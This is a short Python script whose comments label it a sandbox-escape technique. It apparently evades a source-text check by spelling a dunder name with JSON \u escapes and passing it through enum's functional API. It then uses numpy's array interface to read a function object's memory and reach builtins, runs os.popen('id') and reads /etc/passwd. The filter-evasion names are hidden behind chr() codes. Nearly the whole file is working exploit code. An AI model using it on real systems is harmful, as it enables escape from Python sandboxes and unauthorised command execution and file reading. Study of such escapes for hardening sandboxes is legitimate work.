# source: Python enum Functional API; JSON \u escapes (RFC 8259) decoded by json.loads, not by the check
# family: DATA -> attribute: JSON keys (dunder spelled with \u005f in the JSON text) become enum names; a dunder name becomes a class attribute
# goal: object array at function address+24 -> builtins -> os.popen('id'), /etc/passwd
import enum
import json
import numpy as np


class Base(enum.Enum):
    pass


def probe():
    return 1


def w(*codes):
    return "".join(map(chr, codes))


u = chr(95) * 2
cfg = json.loads('{"\\u005f\\u005farray\\u005finterface\\u005f\\u005f": 3, "a": 1}')
addr = int(repr(probe).split()[-1].rstrip(">"), 16)
spec = {"shape": (1,), "typestr": "|O8", "data": (addr + 24, False), "version": 3}
Z = Base("Z", [(k, spec if v == 3 else v) for k, v in cfg.items()])
arr = np.asarray(Z.a)
bi = arr[0]
print(type(bi), len(bi))
imp = bi[u + "import" + u]
ga = bi[w(103, 101, 116, 97, 116, 116, 114)]
osm = imp(w(111, 115))
print(osm)
print(ga(osm, w(112, 111, 112, 101, 110))(w(105, 100)).read())
print(bi[w(111, 112, 101, 110)](w(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100)).read()[:120])
